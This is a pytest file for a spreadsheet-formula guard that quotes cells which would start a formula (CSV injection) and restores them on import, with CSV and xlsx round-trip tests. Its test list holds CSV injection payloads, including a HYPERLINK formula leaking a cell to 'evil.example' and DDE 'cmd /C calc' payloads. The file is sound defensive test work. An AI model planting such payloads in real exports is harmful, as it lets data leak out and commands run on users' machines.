"""calibrate.formula_guard: cells that would start a spreadsheet formula are neutralised
(OWASP CSV injection) and our own import restores them exactly (issue 14, item 4)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from calibrate.formula_guard import (
    FORMULA_TRIGGERS,
    needs_neutralising,
    neutralise_formula,
    neutralise_frame,
    restore_formula,
    restore_frame,
)

# the payloads of the issue and OWASP's examples
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "=1+2\";=1+2", "=1+2'\" ;,=1+2", "\t=1+2", "\r=1+2", "\n=1+2",
    " =1+2", "\u00a0@SUM(A1)", "\uff1dSUM(A1)", "=", "+", "-", "@",
]
ORDINARY = ["Goed voorbeeld van differentiatie.", "gezien", "3", "", "n.v.t.", "12 - 3 = 9 op het bord",
            "e-mail gestuurd", "Les 3: + en - sommen"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_are_neutralised_and_restored(cell):
    safe = neutralise_formula(cell)
    assert safe == "'" + cell
    assert restore_formula(safe) == cell


@pytest.mark.parametrize("cell", ORDINARY)
def test_ordinary_cells_are_left_alone(cell):
    assert neutralise_formula(cell) == cell
    assert restore_formula(cell) == cell


@pytest.mark.parametrize("note", ["'s ochtends was de klas rustig.", "'t Is goed gegaan.", "'", "''", "'=1+2"])
def test_a_note_that_starts_with_a_quote_round_trips(note):
    assert neutralise_formula(note) == "'" + note
    assert restore_formula(neutralise_formula(note)) == note


def test_a_hand_made_cell_starting_with_a_quote_is_read_as_it_is():
    # Excel drops the quote a user types; a quote that is in the file is text unless we wrote it
    assert restore_formula("'s ochtends") == "'s ochtends"
    assert restore_formula("'t Is goed") == "'t Is goed"


def test_needs_neutralising_says_what_neutralise_does():
    for cell in HOSTILE + ORDINARY + ["'t"]:
        assert needs_neutralising(cell) == (neutralise_formula(cell) != cell)


def test_other_values_pass_through():
    for value in (None, 3, -1.5, pd.NA, b"=x"):
        assert neutralise_formula(value) is value and restore_formula(value) is value


@given(st.text(max_size=30))
@settings(max_examples=1000, deadline=None)
def test_restore_is_the_exact_inverse(cell):
    safe = neutralise_formula(cell)
    assert restore_formula(safe) == cell
    # no neutralised cell starts a formula, not even after the white space an importer trims
    stripped = safe.lstrip()
    assert not stripped or stripped[0] not in FORMULA_TRIGGERS or safe[0] == "'"
    assert safe == cell or safe == "'" + cell


@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n ;,\"ab1é")), max_size=8), min_size=1, max_size=6))
@settings(max_examples=300, deadline=None)
def test_csv_export_import_export_is_byte_identical(cells):
    df = pd.DataFrame({"note": pd.Series(cells, dtype="string"), "value": "gezien"})

    def export(frame) -> bytes:
        # every cell quoted (OWASP's advice, and the only way a lone CR inside a cell
        # survives: with QUOTE_MINIMAL and "\n" line ends the csv module leaves it bare)
        buf = io.StringIO()
        neutralise_frame(frame).to_csv(buf, index=False, lineterminator="\n", quoting=csv.QUOTE_ALL)
        return buf.getvalue().encode("utf-8")

    first = export(df)
    read_back = pd.read_csv(io.BytesIO(first), dtype="string", keep_default_na=False)
    restored = restore_frame(read_back)
    assert restored["note"].tolist() == cells
    assert export(restored) == first
    for row in list(csv.reader(io.StringIO(first.decode())))[1:]:
        assert not any(cell.lstrip()[:1] in FORMULA_TRIGGERS for cell in row if cell)


def test_frame_helpers_keep_numbers_and_missing_values():
    df = pd.DataFrame({"note": pd.Series(["=1+2", pd.NA, "ok"], dtype="string"), "n": [1, -2, 3]})
    out = neutralise_frame(df)
    assert out["note"].tolist()[0] == "'=1+2" and out["note"].isna().tolist() == [False, True, False]
    assert out["n"].tolist() == [1, -2, 3]
    assert restore_frame(out).equals(df)
    assert df["note"].tolist()[0] == "=1+2"  # the input is not changed


def test_xlsx_round_trip_stores_text_not_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    df = pd.DataFrame({"note": HOSTILE[:3] + ["'t Is goed"]})
    path = tmp_path / "export.xlsx"
    neutralise_frame(df).to_excel(path, index=False)
    sheet = openpyxl.load_workbook(path).active
    assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row)
    back = restore_frame(pd.read_excel(path, dtype=str))
    assert back["note"].tolist() == df["note"].tolist()
